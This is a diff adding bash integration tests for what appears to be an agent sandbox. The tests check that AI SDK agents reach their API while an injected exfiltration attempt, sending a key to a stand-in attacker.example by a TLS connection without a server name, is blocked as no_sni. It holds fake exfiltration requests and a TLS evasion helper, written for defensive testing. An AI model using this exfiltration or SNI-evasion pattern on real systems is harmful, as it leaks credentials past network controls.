@@ -339,3 +339,70 @@ test_sni_flood() {
 	expect_eq "deny lines + lost" "$n" "$((lines + lost))" || return 1
 	expect_audit 1 "$L_AUDIT" event=sandbox_exit denied="$n"
 }
+
+# The real SDKs with the check on: examples/openai-agent and examples/anthropic-agent call a
+# stand-in (tests/standin/server.mjs) at an address it shares with attacker.example, found
+# through dnsmasq. Outside, the shared address serves attacker.example the key; inside, the
+# SDK's call goes through, the agent's fetch to the bare address (a ClientHello without a
+# server name) is refused as no_sni, and nothing reaches the attacker.
+SNI_SDK_ADDR=127.0.0.11
+
+# sni_sdk PROVIDER KEY_VARIABLE SDK_LINE
+sni_sdk() {
+	local provider=$1 var=$2 line=$3 src=$IT_ROOT/examples/$1-agent dir=$IT_TMP/examples/$1-agent
+	local mark got
+
+	[ -f "$src/node_modules/.package-lock.json" ] ||
+		fail "$src/node_modules is not installed: make test runs npm ci there" || return 1
+	command -v node >/dev/null || fail "node not found (make deps installs nodejs)" || return 1
+	if [ ! -d "$dir" ]; then
+		mkdir -p "$IT_TMP/examples" && chmod 755 "$IT_TMP/examples" &&
+			cp -a "$src" "$dir.$BASHPID" && chmod -R a+rX "$dir.$BASHPID" &&
+			mv -T "$dir.$BASHPID" "$dir" || fail "cannot copy $src" || return 1
+	fi
+	sni_ca || return 1
+	node "$IT_ROOT/tests/standin/server.mjs" "$IT_TMP/sni-ca/server.pem" \
+		"$IT_TMP/sni-ca/server.key" "$SNI_SDK_ADDR" 443 "$T_DIR/sdk.ready" \
+		>"$T_DIR/sdk.log" 2>&1 &
+	track_pid $!
+	dnsmasq_start "$SNI_DNS" "$SNI_DNS_PORT" "$T_DIR/dns.log" \
+		--address=/openai.com/"$SNI_SDK_ADDR" --address=/anthropic.com/"$SNI_SDK_ADDR" \
+		--address=/attacker.example/"$SNI_SDK_ADDR" || return 1
+	wait_for_file "$T_DIR/sdk.ready" 10 ||
+		fail "the stand-in did not start: $(brief "$(cat "$T_DIR/sdk.log")")" || return 1
+
+	got=$("$IT_HELPERS/tls_evade" normal "$SNI_SDK_ADDR" 443 attacker.example "$SNI_CA" 2>&1)
+	echo "outside: tls_evade normal attacker.example -> $got"
+	expect_eq "outside, attacker.example on the shared address" "OK - 200" "$got" || return 1
+	grep -q 'GET attacker.example /?k=sk_live_SECRET' "$T_DIR/sdk.log" ||
+		fail "outside: the key did not reach attacker.example" || return 1
+
+	mark=$(wc -l <"$T_DIR/sdk.log")
+	# The job inherits these, as the demo's agent does; each test runs in a bash of its own.
+	export "$var=sk_test_sni_sdk" NODE_EXTRA_CA_CERTS="$SNI_CA" EXAMPLE_ADDRESS="$SNI_SDK_ADDR"
+	cd "$dir" || return 1
+	launch_job --resolver "$SNI_DNS:$SNI_DNS_PORT" --policy "$IT_ROOT/policies/$provider.json" \
+		-- "$dir/node_modules/.bin/tsx" "$dir/agent.ts"
+	cd "$T_DIR" || return 1
+	expect_rc "the agent" 0 || return 1
+	grep -qF "$line: Hello from the stand-in." "$L_OUT_FILE" ||
+		fail "the SDK's call did not go through: $(brief "$L_OUT")" || return 1
+	grep -q 'went through' "$L_OUT_FILE" &&
+		fail "an attempt of the injected code went through: $(brief "$L_OUT")" && return 1
+	tail -n +"$((mark + 1))" "$T_DIR/sdk.log" | grep -q "POST api.$provider.com /v1/" ||
+		fail "the stand-in never saw the SDK's call" || return 1
+	got=$(tail -n +"$((mark + 1))" "$T_DIR/sdk.log" | grep -v "api.$provider.com")
+	[ -z "$got" ] || fail "inside: other requests reached the stand-in: $(brief "$got")" ||
+		return 1
+	audit_check || return 1
+	expect_audit 1 "$L_AUDIT" event=deny op=tls reason=no_sni dst_ip="$SNI_SDK_ADDR" \
+		dst_port=443
+}
+
+test_sni_openai_sdk() {
+	sni_sdk openai OPENAI_API_KEY openai.chat.completions.create
+}
+
+test_sni_anthropic_sdk() {
+	sni_sdk anthropic ANTHROPIC_API_KEY anthropic.messages.create
+}
